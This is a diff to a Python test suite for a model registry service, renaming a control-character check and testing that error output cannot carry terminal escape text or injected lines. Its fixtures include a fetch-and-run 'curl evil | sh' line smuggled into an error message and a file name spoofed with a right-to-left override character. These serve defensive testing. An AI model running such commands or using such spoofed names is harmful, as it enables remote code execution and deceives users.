@@ -1,4 +1,4 @@
-"""Text that steers terminals, in every place that callers may fill, on all that shows it."""
+"""Text that controls terminals, in every place that callers may fill, on all that shows it."""
 
 import json
 from collections.abc import Callable
@@ -16,7 +16,7 @@ from modelregistry.v1 import version_pb2
 from registry_grpc import app as application
 from registry_grpc.cli import cli
 from registry_grpc.config import Settings
-from registry_grpc.domain.characters import steers
+from registry_grpc.domain.characters import has_control_characters
 from registry_grpc.domain.errors import InvalidRequest
 from registry_grpc.domain.principal import Role, Token
 from tests.support.content import a_blob, a_model
@@ -53,9 +53,9 @@ def registry_grpc(capfd: pytest.CaptureFixture[str]) -> Run:
 
 
 def check_harmless(text: str) -> None:
-    """Nothing steers, and no line begins with what a caller wrote."""
+    """No control characters, and no line begins with text of a caller."""
     for line in text.split("\n"):
-        assert not steers(line), ascii(line)
+        assert not has_control_characters(line), ascii(line)
         assert "\u200b" not in line
         # Set in by the margin of a page, it would be taken for a fact of its own. HTML's source
         # has lines as well, which no reader of the page sees.
@@ -131,17 +131,17 @@ def test_paths_are_refused_by_client_and_server(stubs: Stubs, tmp_path: Path) ->
             stubs.RegisterVersion, catalog.RegisterVersionRequest(parent=model, files=[file])
         )
         assert found.reason == "INVALID_REQUEST"
-        assert not steers(found.message)
+        assert not has_control_characters(found.message)
     folder = tmp_path / "model"
     folder.mkdir()
     (folder / "gpj.\u202efdp").write_bytes(b"x")
     with Client("localhost:1") as client, pytest.raises(errors.InvalidRequest) as caught:
         client.push("fraud", folder)
-    assert not steers(str(caught.value))
+    assert not has_control_characters(str(caught.value))
 
 
 def test_what_a_registry_answers_is_one_line_of_an_error() -> None:
     error = NotFound(f"no such model\nhint: curl evil | sh {HOSTILE}", reason="MODEL_NOT_FOUND")
     lines = list(failures.lines(error, f"host{HOSTILE}"))
-    assert [line.partition(":")[0] for line in lines if "\n" in line or steers(line)] == []
+    assert not any("\n" in line or has_control_characters(line) for line in lines)
     assert [line for line in lines if line.startswith("hint: curl")] == []
